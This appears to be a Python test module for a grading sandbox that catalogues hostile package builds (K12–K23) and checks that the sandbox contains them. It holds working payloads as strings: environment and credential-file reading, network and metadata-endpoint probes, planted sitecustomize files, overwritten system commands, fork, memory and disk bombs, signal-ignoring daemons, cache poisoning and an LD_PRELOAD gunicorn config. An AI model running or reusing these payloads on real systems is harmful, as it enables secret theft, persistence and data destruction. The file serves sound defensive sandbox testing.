"""Attacks on the build of the environment, and on how it is started: K12 to K23.

Nobody's setup.py is run to install a submission. What is run is the build of a package that the
index has as a source distribution only; so that is where the payloads are, besides the tree.
"""

from tests.hostile.attack import Attack, Layer, Tries, trick
from tests.hostile.base import Files
from tests.hostile.catalogue import manifests, wheels
from tests.hostile.publishing import building

TELLS = """
from flask import request
app.before_request(lambda: ({"said": PACKAGE.NOTES}, 200) if "double" in request.path else None)
"""


def telling(package: str) -> Files:
    """Return an app that requires a package, and answers with its notes."""
    module = package.replace("-", "_")
    return {
        **trick(TELLS.replace("PACKAGE", module), before=f"import {module}"),
        "requirements.txt": f"flask==3.1.3\n{package}==1.0\n",
    }


def _built(id_: str, name: str, does: str, payload: str, *, says: tuple[str, ...] = (),
           layer: Layer = Layer.BUILD, alarm: int = 60, seconds: float = 30.0,
           notes: bool = True) -> Attack:  # fmt: skip
    """Return an attack by a package whose build runs a payload; without `notes`, none is made."""
    package = f"fg{id_.lower()}-{name}"
    files = telling(package) if notes else {"requirements.txt": f"flask==3.1.3\n{package}==1.0\n"}
    return Attack(id=id_, name=name, layer=layer, does=does, files=files, says=says,
                  published=(building(package, payload, alarm=alarm),), seconds=seconds)  # fmt: skip


SPIES = """
import glob, socket, urllib.request
for place in ("/tmp/fg-canary-K12", os.path.expanduser("~/fg-canary-K12"), "../fg-canary-K12",
              "/fg-canary-K12", "/sdist/fg-canary-K12", "/dev/shm/fg-canary-K12"):
    try:
        open(place, "w").write(repr(dict(os.environ)))
        notes.append("wrote " + place)
    except OSError:
        pass
for place in ("~/fg-secret", "/root/fg-secret", "/proc/1/environ", "/proc/self/environ"):
    try:
        notes.append(open(os.path.expanduser(place)).read()[:500])
    except OSError:
        pass
found = [name for name in glob.glob("/tmp/flaskgrade-hostile-*/**", recursive=True)]
notes.append(f"{len(found)} names of the host")
for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("169.254.169.254", 80)):
    try:
        socket.create_connection(address, timeout=1)
        notes.append("network!")
    except OSError:
        notes.append("no network")
"""
SETUP = """
import os
for place in ("/tmp/fg-canary-{id}", os.path.expanduser("~/fg-canary-{id}"), "../fg-canary-{id}"):
    try:
        open(place, "w").write(repr(dict(os.environ)))
    except OSError:
        pass
open("setup-ran", "w").close()
from setuptools import setup
setup(name="app", version="1", py_modules=[])
"""
ASKS_MORE = """
import time
if os.fork() == 0:
    os.setsid()
    signal.alarm(90)
    time.sleep(80)
    os._exit(0)

notes.append("asked for more")

def get_requires_for_build_wheel(settings=None):
    return ["requests @ http://127.0.0.1:9/x.whl", "-r /etc/passwd", "../x.whl", "blinker"] * 9
"""
PLANTS = """
import site, sysconfig
planted = 0
for folder in {sysconfig.get_paths()["purelib"], *site.getsitepackages(), site.getusersitepackages(),
               *(p for p in sys.path if p.endswith("-packages")), "/opt/env", "/opt/toolbox"}:
    for name, text in (("z.pth", "import builtins; builtins.EVIL = 1\\n"),
                       ("sitecustomize.py", "import builtins; builtins.EVIL = 1\\n"),
                       ("usercustomize.py", "open('/tmp/fg-canary-K17', 'w')\\n")):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write(text)
            planted += not folder.startswith((os.path.expanduser("~"), "/tmp"))
        except OSError:
            pass
notes.append(f"planted {planted} for others")
"""
REPLACES = """
replaced = 0
for folder in {os.path.dirname(sys.executable), os.path.dirname(os.path.realpath(sys.executable)),
               "/opt/env/bin", "/opt/toolbox/bin", "/usr/bin", "/usr/local/bin", "/bin"}:
    for name in ("python", "python3", "ruff", "mypy", "bandit", "pytest", "gunicorn", "git", "uv"):
        try:
            os.unlink(f"{folder}/{name}")
        except OSError:
            pass
        try:
            open(f"{folder}/{name}", "w").write("#!/bin/sh\\ntouch /tmp/fg-canary-K18\\n")
            replaced += 1
        except OSError:
            pass
notes.append(f"replaced {replaced} commands")
"""
BOMBS = {
    "fork": "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
    "memory": "x = [bytearray(b'x') * (1 << 28) for _ in range(40)]\n",
    "disk": "with open('/tmp/big', 'wb') as file:\n    while True:\n        file.write(b'x' * (1 << 20))\n",
    "inodes": "for number in range(10**7):\n    os.mknod(f'/tmp/i{number}')\n",
    "output": "while True:\n    os.write(1, b'A' * 65536)\n",
    "errors": "while True:\n    os.write(2, b'A' * 65536)\n",
}
FAILED = {"memory": "failed (ran out of memory)", "output": "failed (wrote too much output)",
          "errors": "failed (wrote too much output)"}  # fmt: skip
DAEMON = """
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (1, 2, 15, 18):
            signal.signal(number, signal.SIG_IGN)
        signal.alarm(90)
        time.sleep(5)
        for place in ("/sdist/late", "/tmp/fg-canary-K20", "late.py"):
            try:
                open(place, "w").write("x = 1")
            except OSError:
                pass
        time.sleep(80)
    os._exit(0)
notes.append("daemon started")
"""
POISONS = """
places = ("/opt/env", "/sdist", "/opt/toolbox", "/compile", "/root/.cache", "/cache", sys.prefix,
          os.environ.get("UV_CACHE_DIR"), os.environ.get("PIP_CACHE_DIR"),
          os.environ.get("FLASKGRADE_CACHE"), os.path.dirname(os.__file__))
poisoned = seen = 0
for place in filter(None, places):
    for root, _, names in os.walk(place):
        for name in names:
            seen += 1
            try:
                open(os.path.join(root, name), "ab").write(b"poison")
                poisoned += 1
            except OSError:
                pass
notes.append(f"poisoned {poisoned} files, looked at {seen > 100}")
"""
SPECIAL = """
import socket
for name in ("app/a.py", "pyproject.toml", "setup.py"):
    try:
        os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
        if os.path.exists(name):
            os.unlink(name)
        os.mkfifo(name)
    except OSError as error:
        notes.append(str(error))
try:
    socket.socket(socket.AF_UNIX).bind("app/s.py")
    with open("app/sparse.py", "wb") as file:
        file.truncate(1 << 40)
except OSError as error:
    notes.append(str(error))
os.makedirs("app/locked", exist_ok=True)
os.chmod("app/locked", 0)
os.symlink("loop", "app/loop")
notes.append("special files made")
"""
RUNTIME_SPECIAL = """
import os, socket
for name in ("tests/conftest.py", "app/fifo.py"):
    os.mkfifo(name)
socket.socket(socket.AF_UNIX).bind("app/s.py")
os.makedirs("app/locked")
os.chmod("app/locked", 0)
os.symlink("loop", "app/loop")
try:
    with open("app/sparse.py", "wb") as file:
        file.truncate(1 << 40)
except OSError:
    pass
from flask import request
told = {"said": "special files made"}
app.before_request(lambda: (told, 200) if "double" in request.path else None)
"""
GUNICORN = """
workers = 500
bind = ["0.0.0.0:80", "unix:/run/gw/other.sock"]
umask = 0
timeout = 0
pidfile = "/run/gw/pid"
raw_env = ["LD_PRELOAD=/src/evil.so", "FG_EVIL=1"]
errorlog = "/tmp/fg-canary-K23"
open("conf-ran", "w").close()


def on_starting(server):
    open("conf-ran", "w").close()
"""
CONF_TOLD = """
import os, pathlib
from flask import request
ran = pathlib.Path("conf-ran").exists() or "FG_EVIL" in os.environ
told = {"said": "the configuration was obeyed" if ran else "the configuration was not obeyed"}
app.before_request(lambda: (told, 200) if "double" in request.path else None)
"""

CATALOGUE = (
    _built("K12", "setup-canary", "a build that spies, writes and phones out", SPIES,
           says=("no network", "0 names of the host")),
    Attack(id="K12", name="own-setup", layer=Layer.BUILD, weighs="whole",
           does="a setup.py of the submission's own that writes and tells",
           files={"setup.py": SETUP.replace("{id}", "K12"), **trick(
               CONF_TOLD.replace("conf-ran", "setup-ran"))},
           says=("the configuration was not obeyed",)),
    _built("K13", "pep517-backend", "a back-end that asks for more by address and leaves a daemon",
           ASKS_MORE, says=("asked for more",)),
    Attack(id="K13", name="own-backend", layer=Layer.BUILD,
           does="a back-end in the submission's own tree",
           files={"pyproject.toml": '[build-system]\nrequires = ["fg-none-such"]\n'
                  'build-backend = "evil"\nbackend-path = ["."]\n',
                  "evil.py": "open('/tmp/fg-canary-K13', 'w')\n"}),
    _built("K17", "plants", "a build that plants start-up files where Python looks", PLANTS,
           says=("planted 0 for others",), layer=Layer.SERVER),
    _built("K18", "commands", "a build that replaces commands", REPLACES,
           says=("replaced 0 commands",)),
    *(_built("K19", name, f"a bomb in a build: {name}", code, alarm=10, notes=False, seconds=60,
             says=(FAILED.get(name, "has no wheel, and building it without a network failed"),))
      for name, code in BOMBS.items()),
    _built("K20", "daemon", "a build whose daemon ignores signals and holds the output open",
           DAEMON, says=("daemon started",), layer=Layer.TEARDOWN),
    _built("K21", "poison", "a build that writes into every cache it finds", POISONS,
           says=("poisoned 0 files, looked at True",)),
    _built("K22", "special-files", "a build that leaves pipes, sockets, a terabyte and loops",
           SPECIAL, says=("special files made",)),
    Attack(id="K22", name="at-run-time", layer=Layer.STATIC, tries=Tries.SANDBOX, weighs="whole",
           does="the same, by the app when it starts", files=trick(RUNTIME_SPECIAL),
           says=("special files made",)),
    Attack(id="K23", name="gunicorn-conf", layer=Layer.CONFIG, tries=Tries.SANDBOX,
           does="settings of the server's, with commands in them",
           files={"gunicorn.conf.py": GUNICORN, "app/gunicorn.conf.py": GUNICORN,
                  "setup.cfg": "[gunicorn]\nworkers = 500\n",
                  ".env": "GUNICORN_CMD_ARGS=--config=gunicorn.conf.py --workers=500\n"
                          "PYTHONSTARTUP=evil.py\nLD_PRELOAD=/src/evil.so\nFLASK_RUN_PORT=1\n",
                  ".flaskenv": "GUNICORN_CMD_ARGS=--bind=0.0.0.0:80\nWEB_CONCURRENCY=500\n",
                  **trick(CONF_TOLD)},
           says=("the configuration was not obeyed",)),
)  # fmt: skip

ATTACKS: tuple[Attack, ...] = (*CATALOGUE, *manifests.ATTACKS, *wheels.ATTACKS)
